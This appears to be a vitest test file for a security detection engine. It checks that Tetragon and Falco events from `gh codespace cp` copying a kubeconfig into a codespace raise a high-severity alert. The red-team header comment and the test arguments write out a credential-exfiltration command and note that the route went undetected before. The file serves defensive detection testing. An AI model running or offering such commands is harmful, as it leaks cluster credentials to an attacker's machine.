/**
 * `gh codespace cp` (red-team review): `gh cs cp -e ~/.kube/config remote:/tmp/` copies a file into a
 * codespace, a GitHub-hosted machine of the attacker's account, over gh's own tunnel; gh was known only for its
 * releases, gists, `repo create --push` and API writes, so this raised nothing. Checked as exported Tetragon
 * and Falco JSON lines through the real scan path; kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { inlineScenario, runInlineScenario } from './harness.js';

const KUBECONFIG = '/home/dev/.kube/config';

async function alertsOf(name: string, args: string, form: SensorForm) {
  const s = inlineScenario(name, { 'api.github.com': '140.82.121.6' }, [
    { at: '1s', exec: { id: 'gh', parent: 'app', binary: '/usr/bin/gh', args, uid: 1000 } },
    { after: '3ms', read: { proc: 'gh', path: KUBECONFIG, bytes: 5600 } },
    { after: '5ms', upload: { proc: 'gh', to: 'api.github.com:443', bytes: '12KiB', over: '600ms' } },
    { after: '10ms', exit: { proc: 'gh' } },
  ]);
  const { alerts } = await runInlineScenario(s, form);
  return alerts.map((a) => ({ rule: a.rule, severity: a.severity, tool: a.push.tool, remote: a.push.remote }));
}

describe('gh codespace cp', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`copying a kubeconfig into a codespace is high (${form})`, async () => {
      expect(await alertsOf('gh-cs-cp', `cs cp -e ${KUBECONFIG} remote:/tmp/`, form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', remote: 'remote:/tmp/' },
      ]);
    });

    it(`copying a file out of a codespace is quiet (${form})`, async () => {
      expect(await alertsOf('gh-cs-cp-down', 'codespace cp -c mycs remote:/workspaces/app/out.txt ./', form)).toEqual(
        [],
      );
    });
  }
});
